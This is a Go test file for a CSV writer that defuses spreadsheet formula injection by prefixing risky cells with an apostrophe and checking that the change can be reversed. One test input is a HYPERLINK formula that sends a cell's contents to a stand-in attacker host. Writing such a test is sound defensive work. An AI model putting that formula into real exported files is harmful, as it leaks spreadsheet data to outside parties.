package csvsafe

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

func TestFormulaCellsAreWrittenAsText(t *testing.T) {
	in := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1 555 0100", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
		"'=1", "'Tis the season", "-12", "-0.5", "-", "-.5", "-1.", "42", "", "Plain = text", "hello"}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1 555 0100", "'-2+3", "'@SUM(A1:A9)", "'\t=1", "'\r=1",
		"''=1", "''Tis the season", "-12", "-0.5", "'-", "'-.5", "'-1.", "42", "", "Plain = text", "hello"}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(got, want) {
		t.Fatalf("cells\n got %q\nwant %q", got, want)
	}
	if in[0][0] != '=' {
		t.Fatal("Write changed the caller's record")
	}
	for i, cell := range got {
		if back := Restore(cell); back != in[i] {
			t.Errorf("Restore(%q) = %q, want %q", cell, back, in[i])
		}
	}
}

func TestRestoreLeavesTypedApostrophes(t *testing.T) {
	for _, cell := range []string{"'Tis", "'", "''", "hello", "", "x'=1"} {
		want := cell
		if cell == "''" {
			want = "'"
		}
		if got := Restore(cell); got != want {
			t.Errorf("Restore(%q) = %q, want %q", cell, got, want)
		}
	}
}

func FuzzRestoreUndoesNeutralise(f *testing.F) {
	for _, s := range []string{"=1+1", "'", "''=", "-5", "-x", "Tis", "\t", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := Restore(neutralise(s)); got != s {
			t.Fatalf("Restore(neutralise(%q)) = %q", s, got)
		}
		if n := neutralise(s); n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) && !isPlainNumber(n) {
			t.Fatalf("neutralise(%q) = %q starts a formula", s, n)
		}
	})
}
